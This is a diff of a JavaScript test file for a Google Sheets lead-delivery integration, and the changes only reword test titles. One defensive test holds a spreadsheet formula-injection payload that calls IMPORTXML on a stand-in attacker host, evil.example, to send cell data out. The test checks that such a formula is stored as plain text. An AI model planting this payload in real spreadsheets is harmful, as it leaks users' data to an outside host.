@@ -41,7 +41,7 @@ it('the sheet gets its titles once, then a row for each lead', async () => {
   });
 });
 
-it('the sheet may have moved, renamed and additional columns: each value stays under its title', async () => {
+it('the sheet may have moved, renamed and additional columns: each value goes under its title', async () => {
   const vendor = await startSheets();
   vendor.grid.push(['Vendedor', 'Telefone', 'Quem é', '', ' Protocolo ', 'Nome'], ['Rui']);
   expect(await deliver(vendor)).toEqual(delivered);
@@ -55,7 +55,7 @@ it('the sheet may have moved, renamed and additional columns: each value stays u
 it.each([
   ['has no protocols', [['Nome', 'Código'], ['Ana']], 'não tem a coluna Protocolo'],
   ['begins with an untitled column', [['', 'Protocolo', 'Nome']], 'coluna A'],
-])('a sheet that %s gets nothing until somebody fixes it', async (_, cells, reason) => {
+])('a sheet that %s gets no rows until somebody fixes it', async (_, cells, reason) => {
   const vendor = await startSheets();
   vendor.grid.push(...cells);
   const outcome = await deliver(vendor);
@@ -66,14 +66,14 @@ it.each([
   ]);
 });
 
-it('the sheet runs no formula typed by a visitor', async () => {
+it('the sheet does not run a formula that a visitor typed', async () => {
   const vendor = await startSheets();
   const formula = '=IMPORTXML("https://evil.example/?"&A1;"//a")';
   await deliver(vendor, storedLead({ name: formula, notes: '+1+1' }));
   expect(cellsOf(vendor, 0)).toMatchObject({ Nome: formula, Mensagem: '+1+1' });
 });
 
-it('a repeat adds no row if the answer was lost', async () => {
+it('a repeat adds no row if only the response was lost', async () => {
   const vendor = await startSheets();
   await deliver(vendor);
   vendor.losesAnswer = isOf(':append');
@@ -83,7 +83,7 @@ it('a repeat adds no row if the answer was lost', async () => {
   expect(vendor.grid).toHaveLength(3);
 });
 
-it('a repeat is found in a column larger than a megabyte', async () => {
+it('a repeat is recognised even in a column larger than a megabyte', async () => {
   const vendor = await startSheets();
   const others = Array.from({ length: 90_000 }, () => ['0000-0000']);
   vendor.grid.push(['Protocolo', 'Nome'], ...others, ['C7F3-A91D', 'Ana']);
@@ -91,7 +91,7 @@ it('a repeat is found in a column larger than a megabyte', async () => {
   expect(vendor.grid).toHaveLength(90_002);
 });
 
-it('the token is kept until shortly before its end', async () => {
+it('the token is used until shortly before it expires', async () => {
   const vendor = await startSheets();
   vi.useFakeTimers({ toFake: ['Date'] });
   onTestFinished(() => void vi.useRealTimers());
@@ -128,7 +128,7 @@ it.each([
   [404, '{}', 'refused', 'HTTP 404'],
   [503, '', 'failed', 'HTTP 503'],
 ])(
-  'a spreadsheet that Google does not open, with %i %s: %s, and a line of doctor',
+  'if Google refuses the spreadsheet with %i %s, the delivery is %s, and doctor reports it',
   async (status, body, kind, failure) => {
     const vendor = await startSheets();
     vendor.interrupt = (response, call) =>
@@ -140,7 +140,7 @@ it.each([
   },
 );
 
-it('doctor reads token and title, writes nothing, and names the wrong key', async () => {
+it('doctor reads token and title, writes nothing, and names the invalid key', async () => {
   const vendor = await startSheets();
   expect(await findFaults(vendor)).toEqual([]);
   expect(vendor.grid).toEqual([]);
